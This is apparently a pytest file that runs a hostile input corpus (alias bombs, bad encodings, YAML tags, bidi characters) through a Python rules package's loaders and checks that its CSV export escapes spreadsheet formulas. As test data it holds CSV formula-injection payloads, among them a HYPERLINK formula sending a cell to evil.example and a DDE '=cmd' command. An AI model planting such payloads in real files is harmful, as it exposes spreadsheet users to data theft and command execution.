"""The hand-written hostile corpus (``tests/corpus/``): every file gives an error or findings.

Each roster or history file below is read with the input defaults; it must give either a
clear :class:`InputError` or a result whose unusable records are findings, within bounded
time, and never a crash, a hang or a silently dropped record. Policy files (``policy_*``),
holiday calendars (``holidays_*``) and meetings files (``meetings_*``) must give a
:class:`PolicyError` / :class:`InputError` whose problems point at ``file:line:col``.
CSV *output* (``report_csv``) must defuse cells a spreadsheet would execute.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from tanxin_rules import History, Limits, Report, Roster, load_holidays, load_meetings
from tanxin_rules._engine import evaluate
from tanxin_rules._errors import InputError, PolicyError, TanxinError
from tanxin_rules._loading import load_policy
from tanxin_rules._reading import Loaded, load_history, load_roster
from tanxin_rules._render import csv_cell, report_csv

CORPUS = Path(__file__).resolve().parent / "corpus"
HUIMIN = Path(__file__).resolve().parent.parent / "policies" / "huimin_2015.yaml"
SECONDS = 30.0  # a hang guard for hostile input, not a speed claim (bench/ measures)


@dataclass(frozen=True)
class Case:
    """What one corpus file must give: an error code, or the records kept and flagged."""

    loader: Callable[[Path], Loaded[Any]]
    error: str | None = None
    kept: tuple[str, ...] = ()
    flagged: tuple[str, ...] = ()
    message: str = ""


CASES: dict[str, Case] = {
    "truncated.yaml": Case(load_roster, error="yaml", message="end of stream"),
    "gbk_roster.csv": Case(load_roster, error="encoding", message="GBK"),
    "utf16_history.json": Case(load_history, error="encoding", message="UTF-16"),
    "bom_talks.csv": Case(load_history, kept=("t1", "t2")),
    "alias_bomb.yaml": Case(load_roster, error="too-large"),
    "deep_nesting.json": Case(load_history, error="too-deep"),
    "bad_dates.yaml": Case(load_history, kept=("t4",), flagged=("t1", "t2", "t3", "e1")),
    "control_chars.yaml": Case(
        load_roster, kept=("p7",), flagged=("p1", "p2", "p3", "#3", "p5", "p6")
    ),
    "duplicate_ids.yaml": Case(load_roster, kept=("p1", "p1", "p2")),
    "formula_injection.csv": Case(
        load_roster, kept=("p1", "p2", "p3", "p4", "p5"), flagged=("p6",)
    ),
    "wide_10k_columns.csv": Case(load_history, error="too-many-columns"),
    "wrong_types.json": Case(
        load_history,
        kept=("t7",),
        flagged=("#0", "t2", "t3", "t4", "t5", "t6", "#7", "#8", "e1", "#0"),
    ),
}


def ids(loaded: Loaded[Any]) -> tuple[str, ...]:
    """Ids of the people, talks, events and meetings kept, in order."""
    value = loaded.value
    records = [
        *getattr(value, "people", []),
        *getattr(value, "talks", []),
        *getattr(value, "events", []),
        *getattr(value, "meetings", []),
    ]
    return tuple(r.id for r in records)


def test_every_case_has_its_file() -> None:
    """The table names only files that exist."""
    assert all((CORPUS / name).is_file() for name in CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_corpus_file(name: str) -> None:
    """The file gives the expected error, or keeps and flags the expected records, quickly."""
    case = CASES[name]
    path = CORPUS / name
    started = time.perf_counter()
    if case.error is not None:
        with pytest.raises(InputError) as info:
            case.loader(path)
        assert time.perf_counter() - started < SECONDS
        problem = info.value.problems[0]
        assert problem.code == case.error
        assert problem.file == str(path)
        assert case.message in problem.message
        return
    loaded = case.loader(path)
    assert time.perf_counter() - started < SECONDS
    assert ids(loaded) == case.kept
    assert tuple(f.record for f in loaded.findings) == case.flagged
    assert all(f.file == str(path) and f.line for f in loaded.findings)
    assert all(f.code == "invalid-record" for f in loaded.findings)


def test_formula_injection_names_are_data() -> None:
    """Formula-like names are kept verbatim; escaping them is the output side's job."""
    people = load_roster(CORPUS / "formula_injection.csv").value.people
    assert people[0].name == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert [p.name for p in people[1:]] == ["+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def test_duplicate_ids_reach_the_engine_as_findings() -> None:
    """Records sharing an id are kept by the reader and reported by the engine, located."""
    roster = load_roster(CORPUS / "duplicate_ids.yaml")
    history = load_history([])
    report = evaluate(
        load_policy(HUIMIN),
        roster.value,
        history.value,
        (date(2026, 1, 1), date(2026, 12, 31)),
        date(2026, 12, 31),
        findings=roster.findings,
        lines=dict(roster.lines.items()),
    )
    duplicates = [f for f in report.findings if f.code == "duplicate-id"]
    assert [(f.record, f.file, f.line) for f in duplicates] == [
        ("p1", str(CORPUS / "duplicate_ids.yaml"), 2)
    ]


# --------------------------------------------------------------------------- policies


@dataclass(frozen=True)
class Refused:
    """A file that must be refused: the first problem's code and a word of its message, and
    where (line, column) it points."""

    code: str
    message: str
    line: int
    col: int


POLICY_CASES: dict[str, Refused | None] = {
    "policy_truncated.yaml": Refused("yaml", "unexpected end of stream", 79, 14),
    "policy_gbk.yaml": Refused("encoding", "looks like GBK", 3, 53),
    "policy_utf16.yaml": Refused("encoding", "UTF-16", 1, 1),
    "policy_utf16_nobom.yaml": Refused("encoding", "UTF-16 or UTF-32 without", 1, 1),
    "policy_bom.yaml": None,
    "policy_alias_bomb.yaml": Refused("too-large", "more than 200000 nodes", 42, 26),
    "policy_deep_nesting.yaml": Refused("too-deep", "deeper than 64", 13, 72),
    "policy_yaml11_traps.yaml": Refused("string_type", "unquoted `no` is ambiguous", 20, 17),
    "policy_python_tag.yaml": Refused("tag", "python/object/apply", 15, 12),
    "policy_control_chars.yaml": Refused("yaml", "control characters", 9, 28),
    "policy_duplicate_keys.yaml": Refused("duplicate-key", "duplicate key 'roles'", 13, 1),
    "policy_bidi_id.yaml": Refused("string_pattern_mismatch", "roles[0].id", 11, 9),
    "policy_bidi_label.yaml": Refused(
        "hidden-character", "U+202E (RIGHT-TO-LEFT OVERRIDE)", 12, 25
    ),
    "policy_merge_key.yaml": Refused("yaml", "merge keys", 15, 5),
    "policy_two_documents.yaml": Refused("yaml", "only one YAML document", 13, 1),
    "policy_huge_number.yaml": Refused("too-long", "5000 characters is too long", 4, 11),
}


def _assert_refused(exc: TanxinError, case: Refused, path: Path) -> None:
    problems = exc.problems  # type: ignore[attr-defined]
    first = problems[0]
    assert (first.code, first.line, first.col) == (case.code, case.line, case.col), first
    assert case.message in first.message
    assert all(p.file == str(path) and p.line >= 1 and p.col >= 1 for p in problems)


@pytest.mark.parametrize("name", sorted(POLICY_CASES))
def test_policy_corpus_file(name: str) -> None:
    """A hostile policy file is refused with a located PolicyError (or loads), quickly."""
    path = CORPUS / name
    case = POLICY_CASES[name]
    started = time.perf_counter()
    if case is None:
        assert load_policy(path).id == "tiny"
    else:
        with pytest.raises(PolicyError) as info:
            load_policy(path)
        _assert_refused(info.value, case, path)
    assert time.perf_counter() - started < SECONDS


def test_yaml_11_traps_are_each_located() -> None:
    """Every YAML 1.1 trap of the file is reported where it stands, with the hint; an
    unquoted clock where a clock is expected (18:00) is read as the clock it means."""
    path = CORPUS / "policy_yaml11_traps.yaml"
    with pytest.raises(PolicyError) as info:
        load_policy(path)
    found = [(p.line, p.col, p.message.split(":")[0]) for p in info.value.problems]
    assert found == [
        (20, 17, "meeting_kinds[0].label.zh"),
        (20, 25, "meeting_kinds[0].label.en"),
        (23, 17, "parameters[0].label.zh"),
        (25, 12, "parameters[0].value"),
    ]
    messages = " ".join(p.message for p in info.value.problems)
    assert "base-60 number 870" in messages
    assert "octal number 8" in messages
    assert "end" not in {p.path[-1] for p in info.value.problems if p.path}


def test_every_hidden_character_of_a_policy_is_located() -> None:
    """A raw bidi override in a label, an escaped isolate in a guidance text and an escape
    sequence in a note: each refused where its text stands, none printed raw."""
    path = CORPUS / "policy_bidi_label.yaml"
    with pytest.raises(PolicyError) as info:
        load_policy(path)
    found = [(p.line, p.col, p.code, p.message.split(":")[0]) for p in info.value.problems]
    assert found == [
        (12, 25, "hidden-character", "roles[0].label.en"),
        (18, 16, "hidden-character", "guidance[0].text.zh"),
        (19, 24, "hidden-character", "guidance[0].note.en"),
    ]
    assert all(p.message.isprintable() for p in info.value.problems)


def test_huge_policy_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """A policy over the 1 MiB default is refused at once, without parsing."""
    path = tmp_path / "huge.yaml"
    minimal = (CORPUS / "policy_bom.yaml").read_text(encoding="utf-8-sig")
    path.write_text(minimal + "# " + "x" * (1 << 20) + "\n", encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(PolicyError) as info:
        load_policy(path)
    assert time.perf_counter() - started < SECONDS
    assert (info.value.problems[0].code, info.value.problems[0].line) == ("too-large", 1)
    assert load_policy(path, limits=Limits(max_bytes=2 << 20)).id == "tiny"


# --------------------------------------------------------------------------- holiday calendars


HOLIDAY_CASES: dict[str, Refused] = {
    "holidays_bad_dates.yaml": Refused("value_error", "'2026-02-30' is not a real date", 6, 12),
    "holidays_year_0.yaml": Refused("value_error", "year 0 is out of range", 1, 13),
    "holidays_year_10000.json": Refused("value_error", "'10000-01-01'", 3, 15),
    "holidays_reversed.yaml": Refused("value_error", "to is before from", 4, 5),
    "holidays_range_reversed.yaml": Refused("invalid", "before valid_from", 2, 11),
    "holidays_outside_range.yaml": Refused("invalid", "outside the calendar's range", 5, 5),
    "holidays_holiday_and_workday.yaml": Refused("invalid", "both a holiday", 7, 5),
    "holidays_bad.csv": Refused("value_error", "'2026-02-30' is not a real date", 4, 1),
    "holidays_gbk.csv": Refused("encoding", "looks like GBK", 4, 21),
    "holidays_alias_bomb.yaml": Refused("too-large", "more than 200000 nodes", 8, 10),
    "holidays_python_tag.yaml": Refused("tag", "python/object/apply", 2, 11),
    "holidays_duplicate_keys.yaml": Refused("duplicate-key", "'valid_to'", 3, 1),
    "holidays_utf16.json": Refused("encoding", "UTF-16", 1, 1),
    "holidays_truncated.json": Refused("json", "Unterminated string", 1, 78),
    "holidays_control_chars.yaml": Refused("yaml", "control characters", 4, 32),
    "holidays_deep_nesting.yaml": Refused("too-deep", "deeper than 64", 3, 74),
}


@pytest.mark.parametrize("name", sorted(HOLIDAY_CASES))
def test_holiday_corpus_file(name: str) -> None:
    """A hostile holiday calendar is refused with a located InputError, quickly."""
    path = CORPUS / name
    started = time.perf_counter()
    with pytest.raises(InputError) as info:
        load_holidays(path)
    assert time.perf_counter() - started < SECONDS
    _assert_refused(info.value, HOLIDAY_CASES[name], path)


def test_holiday_file_lists_every_bad_entry() -> None:
    """Both impossible dates of one calendar are reported, each at its own line."""
    with pytest.raises(InputError) as info:
        load_holidays(CORPUS / "holidays_bad_dates.yaml")
    assert [(p.line, p.col) for p in info.value.problems] == [(6, 12), (8, 12)]


def test_holiday_csv_lists_every_problem_of_every_kind() -> None:
    """Impossible dates, a reversed range, an unknown kind and an unknown weekday: one error."""
    with pytest.raises(InputError) as info:
        load_holidays(CORPUS / "holidays_bad.csv")
    found = [(p.line, p.col, p.code) for p in info.value.problems]
    assert found == [(4, 1, "value_error"), (5, 1, "value_error"), (6, 12, "csv"),
                     (7, 1, "literal_error")]  # fmt: skip
    assert all(p.file == str(CORPUS / "holidays_bad.csv") for p in info.value.problems)


def test_huge_holiday_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """A holiday calendar over the 1 MiB default is refused at once."""
    path = tmp_path / "huge.yaml"
    path.write_text("valid_from: 2026-01-01\nvalid_to: 2026-12-31\n# " + "x" * (1 << 20))
    with pytest.raises(InputError) as info:
        load_holidays(path)
    assert info.value.problems[0].code == "too-large"


# --------------------------------------------------------------------------- meetings


MEETING_CASES: dict[str, Refused] = {
    "meetings_bad_dates.yaml": Refused("value_error", "'2026-02-30' is not a real date", 2, 51),
    "meetings_bad.csv": Refused("value_error", "'2026-02-30' is not a real date", 2, 25),
    "meetings_duplicate_ids.yaml": Refused("invalid", "duplicate meeting id 'm1'", 2, 8),
    "meetings_unknown_kind.yaml": Refused("reference", "did you mean", 1, 18),
    "meetings_truncated.json": Refused("json", "Unterminated string", 1, 46),
    "meetings_wrong_types.json": Refused("string_type", "meetings[0].kind", 1, 24),
}


@pytest.mark.parametrize("name", sorted(MEETING_CASES))
def test_meetings_corpus_file(name: str) -> None:
    """A hostile meetings file is refused with a located InputError, quickly."""
    path = CORPUS / name
    started = time.perf_counter()
    with pytest.raises(InputError) as info:
        load_meetings(path, kinds=["democratic_life_meeting"])
    assert time.perf_counter() - started < SECONDS
    _assert_refused(info.value, MEETING_CASES[name], path)


def test_meetings_years_0_and_10000_are_located() -> None:
    """2026-02-30, year 0 and year 10000 are each reported at their own line."""
    with pytest.raises(InputError) as info:
        load_meetings(CORPUS / "meetings_bad_dates.yaml")
    assert [p.line for p in info.value.problems] == [2, 3, 4]
    assert "year 0" in info.value.problems[1].message
    assert "10000" in info.value.problems[2].message


def test_meetings_csv_lists_every_problem_of_every_kind() -> None:
    """Bad dates, an unknown (empty) kind and a surplus cell: one error, each located."""
    with pytest.raises(InputError) as info:
        load_meetings(CORPUS / "meetings_bad.csv", kinds=["democratic_life_meeting"])
    found = [(p.line, p.col, p.code) for p in info.value.problems]
    assert found == [(2, 25, "value_error"), (3, 25, "value_error"), (4, 1, "reference"),
                     (5, 39, "csv")]  # fmt: skip


def test_oversize_meetings_file_is_refused(tmp_path: Path) -> None:
    """A meetings file over its limit is refused before it is parsed."""
    path = tmp_path / "m.yaml"
    path.write_text("- {kind: democratic_life_meeting, date: 2026-12-20}\n" * 100)
    with pytest.raises(InputError) as info:
        load_meetings(path, limits=Limits(max_bytes=1000))
    assert info.value.problems[0].code == "too-large"


# --------------------------------------------------------------------------- cyclic oversight


def test_cyclic_oversight_gives_a_report_quickly() -> None:
    """Leaders overseeing one another's units in a ring: no hang, obligations both ways."""
    roster = load_roster(CORPUS / "cyclic_oversight.yaml")
    started = time.perf_counter()
    report = evaluate(
        load_policy(HUIMIN),
        roster.value,
        load_history([]).value,
        (date(2026, 1, 1), date(2026, 12, 31)),
        date(2026, 12, 31),
    )
    assert time.perf_counter() - started < SECONDS
    oversight = {tuple(o.parties) for o in report.obligations if o.rule == "oversight_annual"}
    assert {("pa", "pb"), ("pb", "pc"), ("pa", "pc")} <= oversight


# --------------------------------------------------------------------------- CSV output


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
_EXECUTABLE = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_defuses_formulas(text: str) -> None:
    """Each spreadsheet-executable start gets a leading apostrophe; the text is kept."""
    assert csv_cell(text) == "'" + text
    assert csv_cell("張三") == "張三"
    assert csv_cell(None) == ""
    assert csv_cell(-3) == "'-3"


def _hostile_report() -> Report:
    people = [
        {"id": pid, "name": pid, "roles": [{"role": role}], "unit": "u", "oversees": ["u"]}
        for pid, role in [
            ('=HYPERLINK("http://evil.example","x")', "party_secretary"),
            ("+1+1", "vice_president"),
            ("-1", "department_head"),
            ("@SUM(A1:A9)", "vice_president"),
            ("\t=1", "vice_president"),
        ]
    ]
    roster = Roster.model_validate({"people": people})
    history = History.model_validate(
        {
            "talks": [
                {"id": "=1+2", "date": "2026-03-02",
                 "participants": ['=HYPERLINK("http://evil.example","x")', "+1+1"]},
                {"id": "@t", "date": "2026-03-03", "participants": ["-1", "+1+1"],
                 "reply_requests": [{"id": "-r", "requested_by": "-1",
                                     "replied_on": "2026-03-04"}]},
            ]
        }
    )  # fmt: skip
    return evaluate(
        load_policy(HUIMIN), roster, history, (date(2026, 1, 1), date(2026, 12, 31)),
        date(2026, 12, 31),
    )  # fmt: skip


def test_report_csv_escapes_every_cell_a_spreadsheet_would_execute() -> None:
    """Ids and names from an HR export that look like formulas never start a CSV cell."""
    report = _hostile_report()
    text = report_csv(report)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "id"
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(report.obligations) + 1 > 10
    assert not [c for c in cells if c.startswith(_EXECUTABLE)]
    parties = {row[8] for row in rows[1:]}
    assert "'+1+1;-1" in parties
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell == "'-r" for cell in cells)  # a met follow-up's satisfied_by


def test_report_csv_keeps_line_breaks_inside_their_cell() -> None:
    """A cell holding a line break stays one quoted cell, so no formula can start a line."""
    report = _hostile_report()
    ob = report.obligations[0]
    broken = ob.model_copy(
        update={"explanation": ob.explanation.model_copy(update={"en": "a\n=1+1\r\n@x"})}
    )
    text = report_csv(report.model_copy(update={"obligations": [broken]}))
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    assert rows[1][-1] == "a\n=1+1\r\n@x"


NEVER_YIELDS = """
groups:
  - id: all
    label: {zh: 全體, en: everyone}
    members: {everyone: true}
rules:
  - id: weekly_on_a_thursday
    kind: slot
    clause: "1"
    label: {zh: 永不發生的時段, en: a slot that never happens}
    rrule: FREQ=DAILY;INTERVAL=7;BYDAY=WE
    anchor: 2015-01-01
    talkers: all
    counterparts: all
"""


def test_a_slot_rule_that_never_yields_is_refused() -> None:
    """Every 7th day from a Thursday, on Wednesdays: no date ever; each such rule is refused.

    The refusal searches one 400-year cycle of the rule, not dateutil's way to the year 9999
    (tests/test_rrule.py checks the bound and the answer against that search; docs/security.md
    notes the cost); no wall-clock assertion here (bench/ measures speed)."""
    minimal = (CORPUS / "policy_bom.yaml").read_text(encoding="utf-8-sig")
    rule = NEVER_YIELDS.split("rules:\n")[1]
    more = "".join(rule.replace("weekly_on_a_thursday", f"again_{i}") for i in (2, 3))
    with pytest.raises(PolicyError) as info:
        load_policy(text=minimal + NEVER_YIELDS + more)
    assert [p.message.count("yields none") for p in info.value.problems] == [1, 1, 1]
